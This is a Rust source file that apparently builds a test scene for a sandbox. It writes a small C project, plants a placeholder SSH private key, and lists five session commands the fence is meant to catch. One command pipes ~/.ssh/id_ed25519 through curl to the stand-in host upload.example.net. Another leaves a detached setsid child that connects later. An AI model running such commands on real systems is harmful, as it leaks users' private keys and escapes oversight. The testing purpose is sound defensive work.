//! The scene's project and the five commands of its session.

use std::path::PathBuf;

use crate::person::Person;

use super::servers::Servers;

/// A project on the person's disk, and what the session does in it.
pub struct Project {
    /// Its directory: the working tree.
    pub directory: PathBuf,
    /// The commands, in the order of [`Step`].
    pub commands: Vec<String>,
    /// What the fourth command would write.
    pub outside: PathBuf,
    /// What the first command makes.
    pub made: PathBuf,
}

/// The commands by what they show.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Step {
    /// Compiles and runs a program: many children.
    Compile,
    /// Connects to a TCP server and to a unix socket.
    Connect,
    /// Pipes a private key to an upload.
    Exfiltrate,
    /// Writes outside the fence.
    WriteOutside,
    /// Leaves a child that calls setsid and connects two seconds later.
    Background,
}

/// Every step, in order.
pub const STEPS: [Step; 5] = [Step::Compile, Step::Connect, Step::Exfiltrate, Step::WriteOutside, Step::Background];

const MAKEFILE: &str = "all: count talk\n\t./count 100000\n%: %.c\n\t$(CC) -O1 -o $@ $<\n";

const COUNT: &str = r#"#include <stdio.h>
#include <stdlib.h>
/* How many primes there are below the argument. */
int main(int argc, char **argv) {
    long limit = argc > 1 ? atol(argv[1]) : 100, found = 0;
    for (long n = 2; n < limit; n++) {
        long d = 2;
        while (d * d <= n && n % d) d++;
        found += d * d > n;
    }
    printf("%ld primes below %ld\n", found, limit);
    return 0;
}
"#;

const TALK: &str = r#"#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
/* Says hello to 127.0.0.1:PORT, or to a unix socket when the argument is a path. */
int main(int argc, char **argv) {
    if (argc != 2) return 2;
    int fd, bad;
    if (argv[1][0] == '/') {
        struct sockaddr_un to = {.sun_family = AF_UNIX};
        strncpy(to.sun_path, argv[1], sizeof to.sun_path - 1);
        fd = socket(AF_UNIX, SOCK_STREAM, 0);
        bad = connect(fd, (struct sockaddr *)&to, sizeof to);
    } else {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        fd = socket(AF_INET, SOCK_STREAM, 0);
        bad = connect(fd, (struct sockaddr *)&to, sizeof to);
    }
    if (bad || write(fd, "hello\n", 6) != 6) { perror(argv[1]); return 1; }
    puts("said hello");
    return 0;
}
"#;

/// Writes the project, and the key that must not leave.
///
/// # Errors
/// Whatever the file system says.
pub fn create(person: &Person, servers: &Servers) -> std::io::Result<Project> {
    person.file("project/Makefile", MAKEFILE)?;
    person.file("project/count.c", COUNT)?;
    person.file("project/talk.c", TALK)?;
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key, and still it must not leave\n-----END OPENSSH PRIVATE KEY-----\n";
    person.file(".ssh/id_ed25519", key)?;
    let directory = person.home().join("project");
    let outside = person.home().join("written-outside.txt");
    let (plain, late, upload) = (servers.plain().port(), servers.late().port(), servers.upload().port());
    // The name stands for a server elsewhere; it leads to the scene's own sink, which must stay empty.
    let upload = format!("--resolve upload.example.net:{upload}:127.0.0.1 http://upload.example.net:{upload}/");
    let commands = vec![
        "make".into(),
        format!("./talk {plain} && ./talk {}", servers.unix().display()),
        format!("cat ~/.ssh/id_ed25519 | curl --silent --show-error --max-time 5 --data-binary @- {upload}"),
        format!("echo written > {}", outside.display()),
        format!("setsid --fork sh -c 'sleep 2; ./talk {late}' > /dev/null 2>&1; echo started"),
    ];
    Ok(Project { made: directory.join("count"), directory, commands, outside })
}
